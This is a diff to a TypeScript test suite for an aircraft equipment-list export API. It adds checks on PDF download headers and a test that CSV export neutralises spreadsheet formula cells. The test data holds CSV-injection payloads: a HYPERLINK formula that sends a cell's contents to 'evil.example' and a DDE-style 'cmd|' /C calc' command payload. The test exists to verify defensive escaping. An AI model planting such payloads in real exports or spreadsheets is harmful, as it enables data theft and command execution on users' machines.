@@ -27,7 +27,10 @@ const get = (token: string | null, path: string, language = 'de') =>
 async function pdfOf(response: Response) {
   expect(response.status).toBe(200)
   expect(response.headers.get('content-type')).toBe('application/pdf')
-  expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename=".+\.pdf"$/)
+  expect(response.headers.get('content-disposition')).toMatch(
+    /^attachment; filename=".+\.pdf"; filename\*=UTF-8''.+\.pdf$/,
+  )
+  expect(response.headers.get('x-content-type-options')).toBe('nosniff')
   return (await pdfText(new Uint8Array(await response.arrayBuffer()))).join('\n')
 }
 
@@ -62,6 +65,43 @@ describe('GET /api/customer_aircrafts/:id/equipmentlist', () => {
       .split('\r\n')
     expect(lines).toHaveLength(list.data.length + 1)
     for (const item of list.data) expect(csv).toContain(item.item)
+  })
+
+  it('neutralises formula cells in the CSV and keeps negative numbers readable', async () => {
+    const item = await payload.create({
+      collection: 'equipment',
+      data: {
+        customer_aircraft: aircraft['D-EFAK'],
+        item: '=HYPERLINK("http://evil.example/?"&A1,"Zertifikat")',
+        part_number: "@SUM(1+1)*cmd|' /C calc'!A0",
+        serial_number: '+49-1',
+        manufacturer: '\t=1+1',
+        quantity: 1,
+        arm_m: -0.125,
+        remarks: '-2+3',
+      },
+    })
+    try {
+      const response = await get(
+        operator,
+        `/api/customer_aircrafts/${aircraft['D-EFAK']}/equipmentlist?download=true&format=csv`,
+      )
+      expect(response.headers.get('content-disposition')).toBe(
+        `attachment; filename="equipment-list-D-EFAK.csv"; filename*=UTF-8''equipment-list-D-EFAK.csv`,
+      )
+      expect(response.headers.get('x-content-type-options')).toBe('nosniff')
+      const line = (await response.text()).split('\r\n').find((row) => row.includes('HYPERLINK'))!
+      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Zertifikat"")"`)
+      expect(line).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`)
+      expect(line).toContain(`'+49-1`)
+      expect(line).toContain(`'\t=1+1`)
+      expect(line).toContain(`'-2+3`)
+      expect(line).toContain(',-0.125,')
+      // No cell of the file starts with a character a spreadsheet would run.
+      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r]/)
+    } finally {
+      await payload.delete({ collection: 'equipment', id: item.id })
+    }
   })
 
   it('answers 404 for another company’s aircraft, also as download', async () => {
